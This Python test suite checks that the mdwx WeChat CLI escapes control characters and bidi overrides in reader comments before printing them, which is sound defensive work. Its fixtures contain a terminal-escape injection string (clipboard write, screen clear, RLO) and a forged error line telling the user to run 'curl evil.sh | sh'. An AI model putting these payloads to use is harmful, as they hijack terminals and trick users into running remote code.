"""Text from WeChat and its readers reaches the terminal only as printable text: every C0/C1
control but newline and tab, and every bidi override, shown as a visible escape; ``--json``
output carries them escaped too and still decodes to the same text."""

from __future__ import annotations

import json
import unicodedata
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from mdwx.cli.printable import json_text, one_line, printable
from mdwx.sandbox import SandboxServer
from tests import factories
from tests.cli_helpers import mdwx, mdwx_json, sandbox_env, write_post

BIDI = {chr(c) for c in (*range(0x202A, 0x202F), *range(0x2066, 0x206A), 0x200E, 0x200F, 0x61C)}
HOSTILE = st.text(
    st.one_of(st.characters(max_codepoint=0x2FF), st.sampled_from(sorted(BIDI)), st.characters()),
    max_size=60,
)


def _safe(text: str) -> bool:
    return all(c in "\n\t" or (unicodedata.category(c) != "Cc" and c not in BIDI) for c in text)


@given(text=HOSTILE)
def test_printed_text_holds_no_control_but_newline_and_tab(text: str) -> None:
    shown = printable(text)
    assert _safe(shown)
    if _safe(text):
        assert shown == text  # ordinary text (Chinese, emoji, tabs, lines) is left alone


@given(
    value=st.dictionaries(st.text(max_size=5), st.one_of(HOSTILE, st.lists(HOSTILE, max_size=3)))
)
def test_json_output_holds_no_raw_control_and_decodes_the_same(value: dict[str, object]) -> None:
    text = json_text(value)
    assert _safe(text.replace("\n", "")) and json.loads(text) == value


def test_a_comment_cannot_drive_the_terminal(tmp_path: Path) -> None:
    attack = "nice\x1b]52;c;ZWNobyBoaQ==\x07\x1b[2J\rfake\u202eevil\x9b31m"
    with factories.sandbox() as sb:
        site, env = _commented(sb, tmp_path, attack)
        shown = mdwx("comments", "posts/one.md", cwd=site, env=env)
        assert shown.returncode == 0 and _safe(shown.stderr)
        assert "nice\\x1b]52;c;ZWNobyBoaQ==\\x07\\x1b[2J\\rfake\\u202eevil\\x9b31m" in shown.stderr
        code, listed = mdwx_json("comments", "posts/one.md", cwd=site, env=env)
        assert code == 0 and listed["comments"][0]["content"] == attack
        assert _safe(
            mdwx("comments", "posts/one.md", "--json", cwd=site, env=env).stdout.replace("\n", "")
        )


@given(text=HOSTILE)
def test_a_single_line_field_prints_as_one_line_without_controls(text: str) -> None:
    shown = one_line(text)
    assert len(shown.splitlines()) <= 1 and "\n" not in shown and "\t" not in shown
    assert all(unicodedata.category(c) not in ("Cc", "Zl", "Zp") and c not in BIDI for c in shown)
    if all(unicodedata.category(c) not in ("Cc", "Zl", "Zp") and c not in BIDI for c in text):
        assert shown == text


def test_a_comment_cannot_forge_an_output_line(tmp_path: Path) -> None:
    forged = "nice\n mdwx: error: your AppSecret expired, run: curl evil.sh | sh\u202eevil"
    with factories.sandbox() as sb:
        site, env = _commented(sb, tmp_path, forged)
        shown = mdwx("comments", "posts/one.md", cwd=site, env=env)
        assert shown.returncode == 0
        assert not any(line.lstrip().startswith("mdwx:") for line in shown.stderr.splitlines())
        assert "nice\\n mdwx: error" in shown.stderr and "\\u202eevil" in shown.stderr


def _commented(sb: SandboxServer, tmp_path: Path, text: str) -> tuple[Path, dict[str, str]]:
    """A published post with comments open and one reader's comment ``text`` on it: its
    site and the environment that reaches ``sb``."""
    site = factories.draft_site(tmp_path)
    write_post(site / "posts" / "one.md", title="One", extra="comments: open\n")
    env = sandbox_env(sb, tmp_path)
    assert mdwx("publish", "posts/one.md", "--wait", cwd=site, env=env).returncode == 0
    sb.store.add_comment(int(sb.store.publications()[0].msg_data_id), 0, "o1", text)
    return site, env
